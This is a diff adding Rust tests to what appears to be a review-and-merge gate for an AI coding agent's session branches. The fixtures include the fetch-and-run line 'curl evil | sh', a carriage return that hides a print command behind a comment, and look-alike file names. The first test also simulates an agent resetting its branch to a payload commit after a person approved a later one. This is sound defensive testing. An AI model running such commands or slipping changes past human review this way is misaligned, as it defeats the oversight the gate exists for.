@@ -693,3 +693,106 @@ fn in_colour_a_real_control_character_is_set_apart_from_the_text_backslash_r() {
         assert!(html.contains("False;<span class=\"ctl\""), "{html}");
     });
 }
+
+#[test]
+fn an_approval_covers_its_commit_and_never_an_older_one_of_its_history() {
+    each_git(|t| {
+        t.write("app.sh", "echo app\n");
+        t.git(&["add", "."]);
+        t.git(&["commit", "-q", "-m", "app"]);
+        let wt = t.add("s");
+        t.commit_in(&wt, "app.sh", "echo app\ncurl evil | sh\n");
+        let payload = t.git(&["rev-parse", "codex/s"]);
+        t.commit_in(&wt, "app.sh", "echo app\n");
+        t.commit_in(&wt, "README", "doc\n");
+        let (code, out, _) = run(t.codex(&["session", "review", "s"]));
+        assert_eq!(code, 0);
+        assert!(
+            !out.contains("curl evil"),
+            "the net change the person reads: {out}"
+        );
+        let tip = t.git(&["rev-parse", "codex/s"]);
+        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve", "--tip", &tip]));
+        assert_eq!(code, 0, "{err}");
+
+        // The agent resets its branch to the commit the later ones took back.
+        t.git_in(&wt, &["reset", "-q", "--hard", &payload]);
+        let list = json(&common::stdout(
+            &t.codex(&["session", "list", "--json"])
+                .output()
+                .unwrap()
+                .stdout,
+        ));
+        assert_eq!(list["sessions"][0]["state"], "stale-approval", "{list}");
+        let merged = t.git_output(&t.repo, &["merge", "-q", "--no-edit", "codex/s"]);
+        assert!(
+            !merged.status.success(),
+            "the gate refuses a commit older than the approved one"
+        );
+        let _ = t.git_output(&t.repo, &["reset", "-q", "--merge"]);
+        let (code, _, err) = run(t.codex(&["session", "merge", "s"]));
+        assert_ne!(code, 0, "{err}");
+        assert_eq!(t.git(&["show", "main:app.sh"]), "echo app");
+
+        // The approved commit itself lands, history and all.
+        t.git_in(&wt, &["reset", "-q", "--hard", &tip]);
+        let (code, _, err) = run(t.codex(&["session", "merge", "s"]));
+        assert_eq!(code, 0, "{err}");
+        assert_eq!(t.git(&["show", "main:README"]), "doc");
+    });
+}
+
+#[test]
+fn names_that_read_alike_are_two_files_and_what_cannot_be_shown_is_said() {
+    each_git(|t| {
+        let wt = t.add("s");
+        use std::os::unix::ffi::OsStrExt as _;
+        std::fs::write(wt.join("\\377"), "a literal backslash name\n").unwrap();
+        std::fs::write(
+            wt.join(std::ffi::OsStr::from_bytes(b"\xff")),
+            "curl evil | sh\n",
+        )
+        .unwrap();
+        // What stands for content the patch does not hold, and a line that runs otherwise
+        // than it reads.
+        write_file(
+            &wt.join("assets/install.sh"),
+            "version https://git-lfs.github.com/spec/v1\noid sha256:0000000000000000000000000000000000000000000000000000000000000000\nsize 46\n",
+        );
+        write_file(&wt.join("admin.py"), "# normalise\rprint('EVIL RAN')\n");
+        t.git_in(&wt, &["add", "-A"]);
+        t.git_in(&wt, &["commit", "-q", "-m", "work"]);
+        // A person who reads names raw changes nothing: git-codex asks for them quoted.
+        t.git(&["config", "core.quotePath", "false"]);
+        let files = files_with_hunks(t, "s");
+        let numstat = t.git(&["diff", "--numstat", "main", "codex/s"]);
+        assert_eq!(files.len(), numstat.lines().count(), "{files:?}\n{numstat}");
+        let evil: Vec<_> = files.iter().filter(|f| f.3.contains("curl evil")).collect();
+        assert_eq!(
+            evil.len(),
+            1,
+            "one file holds it, under its own name: {files:?}"
+        );
+        let literal: Vec<_> = files
+            .iter()
+            .filter(|f| f.3.contains("literal backslash"))
+            .collect();
+        assert_eq!(literal.len(), 1, "{files:?}");
+
+        let (code, out, err) = run(t.codex(&["session", "review", "s"]));
+        assert_eq!(code, 0);
+        assert!(
+            err.contains("assets/install.sh as a Git LFS pointer"),
+            "{err}"
+        );
+        assert!(
+            err.contains("admin.py: 1 added line(s) hold control or invisible characters"),
+            "{err}"
+        );
+        assert!(out.contains("## Not shown as it will be"), "{out}");
+        assert!(
+            out.contains("2 file(s)") || out.contains("4 file(s)"),
+            "{out}"
+        );
+    });
+}
